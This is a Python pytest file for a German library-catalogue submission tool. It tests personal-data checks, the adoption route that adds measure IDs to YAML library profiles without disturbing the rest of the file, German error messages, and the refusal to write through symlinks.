    assert outputs == {"valid": "false", "kind": "measure"}
    comment = (out / "comment.md").read_text(encoding="utf-8")
    assert "Ergebnisse: E-Mail-Adresse „info@kita-regenbogen.example“ im Text der Maßnahme." in (
        comment
    )
    assert "Ergebnisse: Telefonnummer „06221 987654“ im Text der Maßnahme." in comment
    assert "Kontakt aufnehmen" in comment  # where a consented address is shown instead
    assert not (root / "measures/buecherkiste-fuer-die-kita.md").exists()


def test_dates_decimals_and_the_profile_address_are_no_personal_data(root):
    measure_form, _ = forms(root)
    answers = {**MEASURE, "summary": "Seit dem 01.02.2024 kommen 0,5 % mehr Kinder, 1,0123456 "
               "je Gruppe.", "results": "Termine: 2024-06-01 bis 2024-09-15."}  # fmt: skip
    assert submit(root, render(measure_form, answers)).valid
    _, library_form = forms(root)  # the profile's contact address is what it is for
    assert submit(root, render(library_form, LIBRARY)).valid


# --- „Maßnahme nachgemacht“: the one route that changes an existing profile -----------------

# libraries/neudorf.yml: a library without measures of its own, with a comment to keep.
NEUDORF = """\
# Profil der Gemeindebücherei Neudorf
name: Gemeindebücherei Neudorf
municipality: Neudorf
state: Hessen
population: 2300
area_m2: 90   # Publikumsfläche ohne Magazin
staff_fte: 0.5
"""

# measures/vorlesen-im-dorfladen.md: a second measure of another library (musterdorf).
VORLESEN = """\
---
title: Vorlesen im Dorfladen
summary: Jeden Mittwoch lesen Ehrenamtliche im Dorfladen des Ortes vor.
libraries: [musterdorf]
topics: [veranstaltungen]
status: running
published: 2026-10-01
---
## Ausgangslage

Der Dorfladen ist der Treffpunkt im Ort.
"""


def adoption(root: Path, profile: str = NEUDORF) -> Form:
    """The catalogue with Neudorf's profile and a second measure; the form „Maßnahme
    nachgemacht“."""
    (root / "libraries/neudorf.yml").write_bytes(profile.encode("utf-8"))
    (root / "measures/vorlesen-im-dorfladen.md").write_text(VORLESEN, encoding="utf-8")
    assert load_catalogue(root).problems.errors == []
    taxonomy, _ = load_taxonomy(root)
    return adoption_form(taxonomy)


ADOPTION = {"library": "neudorf", "adopted": "lesesommer", "consent": "x"}


@pytest.mark.parametrize(
    ("profile", "answer", "expected"),
    [
        (NEUDORF, "lesesommer", NEUDORF + "adopted: [lesesommer]\n"),
        (NEUDORF.rstrip("\n"), "lesesommer, vorlesen-im-dorfladen",
         NEUDORF + "adopted: [lesesommer, vorlesen-im-dorfladen]\n"),
        (NEUDORF.replace("\n", "\r\n"), "https://katalog.example/massnahmen/lesesommer/",
         NEUDORF.replace("\n", "\r\n") + "adopted: [lesesommer]\r\n"),
        (NEUDORF + "adopted: [vorlesen-im-dorfladen]   # seit 2025\nabout: Im Rathaus.\n",
         "lesesommer",
         NEUDORF + "adopted: [vorlesen-im-dorfladen, lesesommer]   # seit 2025\n"
         "about: Im Rathaus.\n"),
        (NEUDORF + "adopted:\n  - vorlesen-im-dorfladen\n\n# Porträt\nabout: Im Rathaus.\n",
         "measures/lesesommer.md",
         NEUDORF + "adopted:\n  - vorlesen-im-dorfladen\n  - lesesommer\n\n# Porträt\n"
         "about: Im Rathaus.\n"),
        (NEUDORF + "adopted: []\n", "lesesommer lesesommer", NEUDORF + "adopted: [lesesommer]\n"),
    ],
    ids=["append", "no-final-newline", "crlf-and-address", "flow-list", "block-list", "empty"],
)  # fmt: skip
def test_adoption_adds_the_measures_and_keeps_the_profile_byte_for_byte(
    root, tmp_path, profile, answer, expected
):
    form = adoption(root, profile)
    answers = {**ADOPTION, "adopted": answer, "message": "Bei uns kamen 40 Kinder. @redaktion"}
    code, outputs, out = run(root, tmp_path, render(form, answers))
    assert code == 0, (out / "comment.md").read_text(encoding="utf-8")
    assert outputs["valid"] == "true"
    assert outputs["kind"] == "adoption"
    assert outputs["path"] == outputs["paths"] == "libraries/neudorf.yml"
    assert outputs["count"] == "1"
    assert outputs["branch"] == "einreichung/issue-42-neudorf"
    assert (root / "libraries/neudorf.yml").read_bytes() == expected.encode("utf-8")
    assert (out / "datei/libraries/neudorf.yml").read_bytes() == expected.encode("utf-8")
    assert (out / "paths.txt").read_text(encoding="utf-8") == "libraries/neudorf.yml\n"
    assert (out / "edits.txt").read_text(encoding="utf-8") == "libraries/neudorf.yml\n"
    loaded = load_catalogue(root)
    assert loaded.problems.errors == []
    assert "lesesommer" in loaded.catalogue.libraries["neudorf"].adopted
    assert [lib.id for lib in loaded.catalogue.adopters_of("lesesommer")] == ["neudorf"]
    body = (out / "pr-body.md").read_text(encoding="utf-8")
    assert "```text\nBei uns kamen 40 Kinder. @redaktion\n```" in body  # the note, inert
    assert "Wie es gelaufen ist" in body
    assert "Closes #42" in body


def test_adoption_pull_request_says_who_adopted_what(root, tmp_path):
    form = adoption(root)
    two = {**ADOPTION, "adopted": "vorlesen-im-dorfladen, lesesommer"}
    assert pull_request_title(submit(root, render(form, two))) == (
        "Gemeindebücherei Neudorf hat „Vorlesen im Dorfladen“ und „Lesesommer mit der "
        "Grundschule“ nachgemacht"
    )
    code, _, out = run(root, tmp_path, render(form, ADOPTION))
    assert code == 0
    title = (out / "pr-title.txt").read_text(encoding="utf-8")
    assert title == "Gemeindebücherei Neudorf hat „Lesesommer mit der Grundschule“ nachgemacht"
    body = (out / "pr-body.md").read_text(encoding="utf-8")
    assert body.startswith(
        "Gemeindebücherei Neudorf hat nachgemacht:\n\n"
        "- „Lesesommer mit der Grundschule“ (`lesesommer`)\n"
    )
    assert "Das Profil `libraries/neudorf.yml` bekommt unter „adopted“ die Kennung" in body
    assert "Wie es gelaufen ist" not in body  # no note given


@pytest.mark.parametrize(
    ("answers", "expected"),
    [
        ({"library": "neudorff"},
         "Ihre Bibliothek: Bibliothek „neudorff“ gibt es nicht – meinten Sie „neudorf“?"),
        ({"library": "../betreiber"}, "Ihre Bibliothek: Bibliothek „../betreiber“ gibt es nicht"),
        ({"adopted": "lesesomer"},
         "Nachgemachte Maßnahmen: Maßnahme „lesesomer“ gibt es nicht – meinten Sie „lesesommer“?"),
        ({"library": "musterdorf"},
         "Nachgemachte Maßnahmen: „lesesommer“ ist eine Maßnahme dieser Bibliothek selbst; "
         "unter „adopted“ stehen Maßnahmen anderer, die Sie nachgemacht haben."),
        ({"library": "musterstadt"},  # a member of the network that carried it out
         "Nachgemachte Maßnahmen: „lesesommer“ ist eine Maßnahme dieser Bibliothek selbst"),
        ({"adopted": "Lesesommer!"}, "„Lesesommer!“ ist keine Kennung einer Maßnahme"),
        ({"adopted": ""}, "„Nachgemachte Maßnahmen“ ist ein Pflichtfeld, aber leer."),
        ({"consent": ""}, "Das Einverständnis zur Veröffentlichung fehlt."),
    ],
)  # fmt: skip
def test_adoption_errors_are_the_german_messages_and_change_nothing(
    root, tmp_path, answers, expected
):
    form = adoption(root)
    before = {p: p.read_bytes() for p in (root / "libraries").iterdir()}
    code, outputs, out = run(root, tmp_path, render(form, {**ADOPTION, **answers}))
    assert code == 1
    assert outputs == {"valid": "false", "kind": "adoption"}
    comment = (out / "comment.md").read_text(encoding="utf-8")
    assert expected in comment, comment
    assert {p: p.read_bytes() for p in (root / "libraries").iterdir()} == before
    assert not (out / "paths.txt").exists()
    assert not (out / "edits.txt").exists()


def test_adoption_of_measures_already_listed_is_refused_or_noted(root):
    form = adoption(root, NEUDORF + "adopted: [lesesommer]\n")
    result = submit(root, render(form, ADOPTION))
    assert result.errors == [
        "Nachgemachte Maßnahmen: „lesesommer“ steht schon unter „adopted“ im Profil "
        "(libraries/neudorf.yml); es gibt nichts zu ändern."
    ]
    both = submit(root, render(form, {**ADOPTION, "adopted": "lesesommer, vorlesen-im-dorfladen"}))
    assert both.valid, both.errors
    assert both.text == NEUDORF + "adopted: [lesesommer, vorlesen-im-dorfladen]\n"
    assert any("„lesesommer“ stand schon unter „adopted“" in w for w in both.warnings)


def test_adoption_never_writes_through_a_link(root, tmp_path):
    outside = tmp_path / "fremd.yml"
    outside.write_text(NEUDORF, encoding="utf-8")
    form = adoption(root)
    (root / "libraries/neudorf.yml").unlink()
    (root / "libraries/neudorf.yml").symlink_to(outside)
    result = submit(root, render(form, ADOPTION))
    assert not result.valid
    assert any("libraries/neudorf.yml ist eine Verknüpfung" in e for e in result.errors)
    assert outside.read_text(encoding="utf-8") == NEUDORF


def test_an_adoption_issue_is_recognised_without_a_kind(root):
    form = adoption(root)
    assert submit(root, render(form, ADOPTION)).kind == "adoption"
    measure_form, _ = forms(root)
    assert submit(root, render(measure_form, MEASURE)).kind == "measure"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("name: A\n", ("name: A\nadopted: [a, b]\n", [2])),
        ("name: A\nadopted: [x]\n", ("name: A\nadopted: [x, a, b]\n", [2])),
        ("adopted: [x,]\nname: A\n", ("adopted: [x, a, b]\nname: A\n", [1])),
        ("adopted: [ ]\n", ("adopted: [a, b]\n", [1])),
        ("adopted:  # Liste\nname: A\n", ("adopted: [a, b]  # Liste\nname: A\n", [1])),
        ("adopted:\n- x\nname: A\n", ("adopted:\n- x\n- a\n- b\nname: A\n", [3, 4])),
        ("adopted: [x,\n  y]\n", None),  # a flow list over two lines
        ("adopted: x\n", None),  # a single id: left to the editors
        ('"adopted": [x]\n', None),  # a quoted key
        ("adopted:\n  - x\n    - y\n", None),
    ],
)  # fmt: skip
def test_add_adopted_edits_only_the_list(text, expected):
    assert add_adopted(text, ["a", "b"]) == expected


def test_add_adopted_quotes_what_yaml_would_not_read_as_text():
    assert add_adopted("name: A\n", ["2024", "no"]) == ('name: A\nadopted: ["2024", "no"]\n', [2])
